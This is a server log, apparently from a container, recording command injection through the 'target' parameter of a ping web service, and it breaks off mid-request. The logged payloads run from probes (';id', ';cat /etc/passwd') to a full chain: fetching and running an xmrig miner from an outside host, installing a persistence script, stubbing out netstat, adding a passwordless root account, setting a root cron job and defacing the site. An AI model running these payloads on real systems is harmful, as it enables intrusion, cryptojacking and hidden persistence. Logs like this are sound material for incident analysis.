2026-11-24T14:23:35.791853691Z [::ffff:172.20.0.1]:48834: url:/
2026-11-24T14:23:35.795633001Z 172.20.0.1 - - [24/Nov/2026 14:23:35] "[37mGET / HTTP/1.1[0m" 200 -
2026-11-24T14:23:36.017482652Z [::ffff:172.20.0.1]:48844: url:/
2026-11-24T14:23:36.020391256Z [32mINFO[0m pinging "127.0.0.1"
2026-11-24T14:23:37.023159154Z 172.20.0.1 - - [24/Nov/2026 14:23:37] "[37mGET /?target=127.0.0.1 HTTP/1.1[0m" 200 -
2026-11-24T14:23:37.242716487Z [::ffff:172.20.0.1]:48852: url:/
2026-11-24T14:23:37.244514824Z [32mINFO[0m pinging "localhost"
2026-11-24T14:23:38.247230785Z 172.20.0.1 - - [24/Nov/2026 14:23:38] "[37mGET /?target=localhost HTTP/1.1[0m" 200 -
2026-11-24T14:23:39.689957266Z [::ffff:172.20.0.1]:48868: url:/robots.txt
2026-11-24T14:23:39.689988343Z [::ffff:172.20.0.1]:48868: response:404
2026-11-24T14:23:39.907791751Z [::ffff:172.20.0.1]:48878: url:/admin
2026-11-24T14:23:39.907817639Z [::ffff:172.20.0.1]:48878: response:404
2026-11-24T14:23:40.127056459Z [::ffff:172.20.0.1]:48884: url:/login
2026-11-24T14:23:40.127083609Z [::ffff:172.20.0.1]:48884: response:404
2026-11-24T14:23:40.346858171Z [::ffff:172.20.0.1]:48896: url:/.git/config
2026-11-24T14:23:40.346887905Z [::ffff:172.20.0.1]:48896: response:404
2026-11-24T14:23:40.565722799Z [::ffff:172.20.0.1]:48912: url:/
2026-11-24T14:23:40.568853860Z [32mINFO[0m pinging ""
2026-11-24T14:23:40.571721307Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:40.571737622Z 
2026-11-24T14:23:40.571741217Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:40.571744312Z 
2026-11-24T14:23:40.571747206Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:40.571750180Z 
2026-11-24T14:23:40.571753195Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:40.571757271Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:40.571760606Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:40.571763751Z 	-i SECS		Interval
2026-11-24T14:23:40.571766935Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:40.571770320Z 	-t TTL		Set TTL
2026-11-24T14:23:40.571773525Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:40.571776710Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:40.571779935Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:40.571783049Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:40.571786244Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:40.571789419Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:40.571812473Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:40.572424910Z 172.20.0.1 - - [24/Nov/2026 14:23:40] "[33mGET /?target= HTTP/1.1[0m" 200 -
2026-11-24T14:23:40.793164723Z [::ffff:172.20.0.1]:48924: url:/
2026-11-24T14:23:40.796216225Z [32mINFO[0m pinging "localhost'"
2026-11-24T14:23:40.797007708Z sh: syntax error: unterminated quoted string
2026-11-24T14:23:40.797489656Z 172.20.0.1 - - [24/Nov/2026 14:23:40] "[33mGET /?target=localhost' HTTP/1.1[0m" 200 -
2026-11-24T14:23:41.013945258Z [::ffff:172.20.0.1]:48934: url:/
2026-11-24T14:23:41.016332701Z [32mINFO[0m pinging "localhost;id"
2026-11-24T14:23:42.019695560Z 172.20.0.1 - - [24/Nov/2026 14:23:42] "[37mGET /?target=localhost;id HTTP/1.1[0m" 200 -
2026-11-24T14:23:42.238550543Z [::ffff:172.20.0.1]:48940: url:/
2026-11-24T14:23:42.241737506Z [32mINFO[0m pinging ";uname -m"
2026-11-24T14:23:42.244959767Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:42.244985475Z 
2026-11-24T14:23:42.244987839Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:42.244989852Z 
2026-11-24T14:23:42.244991464Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:42.244993377Z 
2026-11-24T14:23:42.244995080Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:42.244997373Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:42.244999066Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:42.245000688Z 	-i SECS		Interval
2026-11-24T14:23:42.245002250Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:42.245003873Z 	-t TTL		Set TTL
2026-11-24T14:23:42.245005415Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:42.245008159Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:42.245010272Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:42.245011835Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:42.245013387Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:42.245014919Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:42.245016622Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:42.245787925Z 172.20.0.1 - - [24/Nov/2026 14:23:42] "[37mGET /?target=;uname%20-m HTTP/1.1[0m" 200 -
2026-11-24T14:23:42.465264924Z [::ffff:172.20.0.1]:48946: url:/
2026-11-24T14:23:42.467634361Z [32mINFO[0m pinging ";ps"
2026-11-24T14:23:42.470808896Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:42.470828815Z 
2026-11-24T14:23:42.470831229Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:42.470832941Z 
2026-11-24T14:23:42.470834444Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:42.470835996Z 
2026-11-24T14:23:42.470837518Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:42.470839441Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:42.470841073Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:42.470842746Z 	-i SECS		Interval
2026-11-24T14:23:42.470879971Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:42.470881744Z 	-t TTL		Set TTL
2026-11-24T14:23:42.470883326Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:42.470884969Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:42.470886601Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:42.470888174Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:42.470889776Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:42.470891338Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:42.470892941Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:42.471197814Z 172.20.0.1 - - [24/Nov/2026 14:23:42] "[37mGET /?target=;ps HTTP/1.1[0m" 200 -
2026-11-24T14:23:42.687028677Z [::ffff:172.20.0.1]:48954: url:/
2026-11-24T14:23:42.689477452Z [32mINFO[0m pinging ";cat /etc/passwd"
2026-11-24T14:23:42.692516175Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:42.692530626Z 
2026-11-24T14:23:42.692532930Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:42.692534692Z 
2026-11-24T14:23:42.692536214Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:42.692537767Z 
2026-11-24T14:23:42.692539199Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:42.692728621Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:42.692735301Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:42.692738085Z 	-i SECS		Interval
2026-11-24T14:23:42.692740398Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:42.692742712Z 	-t TTL		Set TTL
2026-11-24T14:23:42.692745075Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:42.692747920Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:42.692750744Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:42.692818244Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:42.692833387Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:42.692835880Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:42.692838274Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:42.693924851Z 172.20.0.1 - - [24/Nov/2026 14:23:42] "[37mGET /?target=;cat%20/etc/passwd HTTP/1.1[0m" 200 -
2026-11-24T14:23:42.910688541Z [::ffff:172.20.0.1]:48958: url:/
2026-11-24T14:23:42.913344114Z [32mINFO[0m pinging ";ls -la /app /tmp"
2026-11-24T14:23:42.916456326Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:42.916468424Z 
2026-11-24T14:23:42.916470668Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:42.916472330Z 
2026-11-24T14:23:42.916473842Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:42.916475515Z 
2026-11-24T14:23:42.916481604Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:42.916483747Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:42.916485460Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:42.916487112Z 	-i SECS		Interval
2026-11-24T14:23:42.916488935Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:42.916490557Z 	-t TTL		Set TTL
2026-11-24T14:23:42.916492060Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:42.916493702Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:42.916495204Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:42.916496676Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:42.916498209Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:42.916499701Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:42.916501223Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:42.917687108Z 172.20.0.1 - - [24/Nov/2026 14:23:42] "[37mGET /?target=;ls%20-la%20/app%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T14:23:43.135569794Z [::ffff:172.20.0.1]:48964: url:/
2026-11-24T14:23:43.138852471Z [32mINFO[0m pinging ";wget http://198.51.100.7/xmrig-6.6.0-linux-x64.tar.gz -q -O /tmp/a"
2026-11-24T14:23:43.141417708Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:43.141435104Z 
2026-11-24T14:23:43.141438128Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:43.141440622Z 
2026-11-24T14:23:43.141443056Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:43.141478098Z 
2026-11-24T14:23:43.141480552Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:43.141497587Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:43.141500041Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:43.141502534Z 	-i SECS		Interval
2026-11-24T14:23:43.141504938Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:43.141507392Z 	-t TTL		Set TTL
2026-11-24T14:23:43.141509775Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:43.141512079Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:43.141514462Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:43.141516715Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:43.141519259Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:43.141521583Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:43.141524096Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:43.144066951Z 172.20.0.1 - - [24/Nov/2026 14:23:43] "[33mGET /?target=;wget%20http://198.51.100.7/xmrig-6.6.0-linux-x64.tar.gz%20-q%20-O%20/tmp/a HTTP/1.1[0m" 200 -
2026-11-24T14:23:43.362134533Z [::ffff:172.20.0.1]:48968: url:/
2026-11-24T14:23:43.364861662Z [32mINFO[0m pinging ";tar -xf /tmp/a -C /tmp"
2026-11-24T14:23:43.368227992Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:43.368247381Z 
2026-11-24T14:23:43.368250405Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:43.368252799Z 
2026-11-24T14:23:43.368254942Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:43.368257206Z 
2026-11-24T14:23:43.368259419Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:43.368300500Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:43.368302994Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:43.368305437Z 	-i SECS		Interval
2026-11-24T14:23:43.368307941Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:43.368310235Z 	-t TTL		Set TTL
2026-11-24T14:23:43.368312578Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:43.368314891Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:43.368317355Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:43.368319588Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:43.368321962Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:43.368324245Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:43.368326669Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:43.368925570Z tar: invalid tar magic
2026-11-24T14:23:43.369779932Z 172.20.0.1 - - [24/Nov/2026 14:23:43] "[33mGET /?target=;tar%20-xf%20/tmp/a%20-C%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T14:23:43.588245556Z [::ffff:172.20.0.1]:48980: url:/
2026-11-24T14:23:43.590998403Z [32mINFO[0m pinging ";tar -xzf /tmp/a -C /tmp"
2026-11-24T14:23:43.594383101Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:43.594399065Z 
2026-11-24T14:23:43.594401969Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:43.594404272Z 
2026-11-24T14:23:43.594406486Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:43.594408819Z 
2026-11-24T14:23:43.594410952Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:43.594413526Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:43.594415780Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:43.594418203Z 	-i SECS		Interval
2026-11-24T14:23:43.594420467Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:43.594422740Z 	-t TTL		Set TTL
2026-11-24T14:23:43.594425003Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:43.594427317Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:43.594429660Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:43.594431884Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:43.594434287Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:43.594436490Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:43.594438814Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:43.596249289Z 172.20.0.1 - - [24/Nov/2026 14:23:43] "[33mGET /?target=;tar%20-xzf%20/tmp/a%20-C%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T14:23:43.813883526Z [::ffff:172.20.0.1]:48986: url:/
2026-11-24T14:23:43.816834357Z [32mINFO[0m pinging ";ls -al /tmp /tmp/xmrig-6.6.0"
2026-11-24T14:23:43.820212144Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:43.820226866Z 
2026-11-24T14:23:43.820229851Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:43.820232204Z 
2026-11-24T14:23:43.820234468Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:43.820236911Z 
2026-11-24T14:23:43.820239115Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:43.820241919Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:43.820244252Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:43.820246756Z 	-i SECS		Interval
2026-11-24T14:23:43.820266485Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:43.820269179Z 	-t TTL		Set TTL
2026-11-24T14:23:43.820271563Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:43.820273876Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:43.820276280Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:43.820278603Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:43.820280977Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:43.820283200Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:43.820285714Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:43.824863047Z 172.20.0.1 - - [24/Nov/2026 14:23:43] "[37mGET /?target=;ls%20-al%20/tmp%20/tmp/xmrig-6.6.0 HTTP/1.1[0m" 200 -
2026-11-24T14:23:44.043242103Z [::ffff:172.20.0.1]:48998: url:/
2026-11-24T14:23:44.045925726Z [32mINFO[0m pinging ";/tmp/xmrig-6.6.0/xmrig -o 198.51.100.7:3333 -u 4AdUndXHHZ6cfu >/tmp/.x.log 2>&1 &"
2026-11-24T14:23:44.049213310Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:44.049225719Z 
2026-11-24T14:23:44.049228573Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:44.049230956Z 
2026-11-24T14:23:44.049233130Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:44.049235643Z 
2026-11-24T14:23:44.049237837Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:44.049240741Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:44.049243145Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:44.049245558Z 	-i SECS		Interval
2026-11-24T14:23:44.049247912Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:44.049250285Z 	-t TTL		Set TTL
2026-11-24T14:23:44.049252699Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:44.049255002Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:44.049257476Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:44.049259759Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:44.049262203Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:44.049264466Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:44.049266830Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:44.050273338Z 172.20.0.1 - - [24/Nov/2026 14:23:44] "[33mGET /?target=;/tmp/xmrig-6.6.0/xmrig%20-o%20198.51.100.7:3333%20-u%204AdUndXHHZ6cfu%20%3E/tmp/.x.log%202%3E%261%20%26 HTTP/1.1[0m" 200 -
2026-11-24T14:23:44.268894313Z [::ffff:172.20.0.1]:49014: url:/
2026-11-24T14:23:44.271626940Z [32mINFO[0m pinging ";ps"
2026-11-24T14:23:44.274715687Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:44.274729127Z 
2026-11-24T14:23:44.274732021Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:44.274734565Z 
2026-11-24T14:23:44.274736819Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:44.274739152Z 
2026-11-24T14:23:44.274741375Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:44.274744270Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:44.274746733Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:44.274749147Z 	-i SECS		Interval
2026-11-24T14:23:44.274752051Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:44.274754465Z 	-t TTL		Set TTL
2026-11-24T14:23:44.274756808Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:44.274759262Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:44.274761736Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:44.274764069Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:44.274766423Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:44.274768756Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:44.274771130Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:44.275902203Z 172.20.0.1 - - [24/Nov/2026 14:23:44] "[37mGET /?target=;ps HTTP/1.1[0m" 200 -
2026-11-24T14:23:44.494141039Z [::ffff:172.20.0.1]:49030: url:/
2026-11-24T14:23:44.497115005Z [32mINFO[0m pinging ";printf '#!/bin/sh\n/tmp/xmrig-6.6.0/xmrig &\n' >/tmp/h;chmod 755 /tmp/h;mv /tmp/h /usr/local/bin/health"
2026-11-24T14:23:44.500376681Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:44.500392083Z 
2026-11-24T14:23:44.500395268Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:44.500397421Z 
2026-11-24T14:23:44.500399555Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:44.500401818Z 
2026-11-24T14:23:44.500403811Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:44.500406325Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:44.500408448Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:44.500410731Z 	-i SECS		Interval
2026-11-24T14:23:44.500412904Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:44.500415038Z 	-t TTL		Set TTL
2026-11-24T14:23:44.500430461Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:44.500432844Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:44.500435158Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:44.500437331Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:44.500439484Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:44.500441567Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:44.500443760Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:44.501691137Z 172.20.0.1 - - [24/Nov/2026 14:23:44] "[33mGET /?target=;printf%20%27%23!/bin/sh%5Cn/tmp/xmrig-6.6.0/xmrig%20%26%5Cn%27%20%3E/tmp/h;chmod%20755%20/tmp/h;mv%20/tmp/h%20/usr/local/bin/health HTTP/1.1[0m" 200 -
2026-11-24T14:23:44.720326273Z [::ffff:172.20.0.1]:49042: url:/
2026-11-24T14:23:44.723273610Z [32mINFO[0m pinging ";rm /bin/netstat;printf '#!/bin/sh\nexit 0\n' >/bin/netstat;chmod 755 /bin/netstat"
2026-11-24T14:23:44.726458521Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:44.726473493Z 
2026-11-24T14:23:44.726476437Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:44.726478761Z 
2026-11-24T14:23:44.726480944Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:44.726483408Z 
2026-11-24T14:23:44.726485561Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:44.726488375Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:44.726490709Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:44.726493212Z 	-i SECS		Interval
2026-11-24T14:23:44.726495536Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:44.726497719Z 	-t TTL		Set TTL
2026-11-24T14:23:44.726499782Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:44.726502106Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:44.726504259Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:44.726506542Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:44.726508625Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:44.726510859Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:44.726513242Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:44.727829611Z 172.20.0.1 - - [24/Nov/2026 14:23:44] "[33mGET /?target=;rm%20/bin/netstat;printf%20%27%23!/bin/sh%5Cnexit%200%5Cn%27%20%3E/bin/netstat;chmod%20755%20/bin/netstat HTTP/1.1[0m" 200 -
2026-11-24T14:23:44.946165712Z [::ffff:172.20.0.1]:49054: url:/
2026-11-24T14:23:44.948942966Z [32mINFO[0m pinging ";echo svc::0:0::/root:/bin/sh >>/etc/passwd"
2026-11-24T14:23:44.951921079Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:44.951932135Z 
2026-11-24T14:23:44.951934839Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:44.951937022Z 
2026-11-24T14:23:44.951939076Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:44.951941159Z 
2026-11-24T14:23:44.951943082Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:44.951946056Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:44.951948439Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:44.951950613Z 	-i SECS		Interval
2026-11-24T14:23:44.951994338Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:44.951996471Z 	-t TTL		Set TTL
2026-11-24T14:23:44.951998544Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:44.952000627Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:44.952002790Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:44.952005064Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:44.952007217Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:44.952009340Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:44.952011533Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:44.954878681Z 172.20.0.1 - - [24/Nov/2026 14:23:44] "[33mGET /?target=;echo%20svc::0:0::/root:/bin/sh%20%3E%3E/etc/passwd HTTP/1.1[0m" 200 -
2026-11-24T14:23:45.170986775Z [::ffff:172.20.0.1]:49068: url:/
2026-11-24T14:23:45.173861895Z [32mINFO[0m pinging ";mkdir -p /var/spool/cron/crontabs;echo '*/5 * * * * /usr/local/bin/health' >/var/spool/cron/crontabs/root"
2026-11-24T14:23:45.177275345Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:45.177318500Z 
2026-11-24T14:23:45.177682331Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:45.177689232Z 
2026-11-24T14:23:45.177692336Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:45.177694800Z 
2026-11-24T14:23:45.177697053Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:45.177699867Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:45.177702592Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:45.177705185Z 	-i SECS		Interval
2026-11-24T14:23:45.177707749Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:45.177710273Z 	-t TTL		Set TTL
2026-11-24T14:23:45.177712697Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:45.177787057Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:45.177792145Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:45.177795179Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:45.177798324Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:45.177800948Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:45.177803732Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:45.179192850Z 172.20.0.1 - - [24/Nov/2026 14:23:45] "[33mGET /?target=;mkdir%20-p%20/var/spool/cron/crontabs;echo%20%27*/5%20*%20*%20*%20*%20/usr/local/bin/health%27%20%3E/var/spool/cron/crontabs/root HTTP/1.1[0m" 200 -
2026-11-24T14:23:45.399020310Z [::ffff:172.20.0.1]:48424: url:/
2026-11-24T14:23:45.401236489Z [32mINFO[0m pinging ";rm -rf /app/static;mkdir /app/static;echo owned >/app/static/index.html"
2026-11-24T14:23:45.404520347Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:45.404535159Z 
2026-11-24T14:23:45.404538133Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:45.404540547Z 
2026-11-24T14:23:45.404542770Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:45.404545114Z 
2026-11-24T14:23:45.404547327Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:45.404550361Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:45.404552745Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
